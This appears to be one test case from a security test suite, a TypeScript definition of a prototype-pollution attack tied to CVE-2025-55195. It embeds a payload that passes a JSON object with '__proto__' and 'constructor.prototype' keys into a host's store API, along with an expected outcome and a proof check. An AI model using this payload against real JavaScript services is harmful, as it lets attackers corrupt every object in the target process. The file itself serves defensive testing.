import { type Attack, js } from "../attack.ts";
import { bareHost } from "../controls/bare_host.ts";

export default {
  name: "params_with_proto_key",
  what: "Asks a capability with a `__proto__` key, to reach the prototype of every object of " +
    "whoever answers.",
  advisory: "CVE-2025-55195",
  module: js`
    export default {
      async run(at, ctx) {
        const polluted = '{"polluted":true}';
        const poison = JSON.parse(
          '{"__proto__":' + polluted + ',"constructor":{"prototype":' + polluted + "}}",
        );
        await ctx.store?.set("key", poison);
        await ctx.store?.batch([poison], [poison]);
        return poison;
      },
    };`,
  lent: true,
  expect: { outcome: "ok" },
  control: bareHost("a Worker without permissions as the only wall"),
  proof: {
    what: "every object of the host has the property",
    holds: ({ polluted }) => polluted === true,
  },
} satisfies Attack;
